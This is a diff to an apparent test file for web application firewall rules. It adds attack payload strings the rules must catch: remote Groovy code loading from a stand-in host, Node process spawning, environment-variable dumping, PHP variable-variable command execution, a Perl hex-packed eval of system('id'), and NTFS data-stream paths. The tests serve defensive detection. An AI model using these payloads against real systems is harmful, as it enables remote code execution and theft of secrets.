@@ -46,4 +46,16 @@ describe("edge.waf.rules hundred-and-sixty-seventh round on", function()
         caught_by(133140, { "shell.pphphp", "up/x.phphpp", "a.phpphp" })
         clean({ "php.php notes", "my.pphp", "see pphphp" })
     end)
+
+    it("code: process members by bracket, a Groovy class loader, a Razor loop over System internals, a PHP"
+        .. " variable variable's element called, Perl's eval of packed hex, a file's NTFS data stream", function()
+        caught_by(135130, { "process['kill'](process.pid,'SIGKILL')", 'process["binding"]("spawn_sync")' })
+        caught_by(144150, { "new GroovyClassLoader().parseClass(new URL('http://x/a.groovy').text)" })
+        caught_by(134150, { "@foreach(var e in System.Environment.GetEnvironmentVariables().Keys){@e}" })
+        caught_by(133180, { "$x='_GET';${$x}['f'](${$x}['c']);" })
+        caught_by(132170, { "eval pack('H*','73797374656d28276964272927')", 'eval(pack("H*", $p))' })
+        caught_by(130120, { "settings.ini::$DATA", "app/db.sqlite::$INDEX_ALLOCATION" })
+        clean({ "new GroovyClassLoader is slow", "process['env']", "@foreach (var item in Model.Items)",
+            "${name}['x'] docs", "pack('H*', $hex)", "the ::$DATA trick is old" })
+    end)
 end)
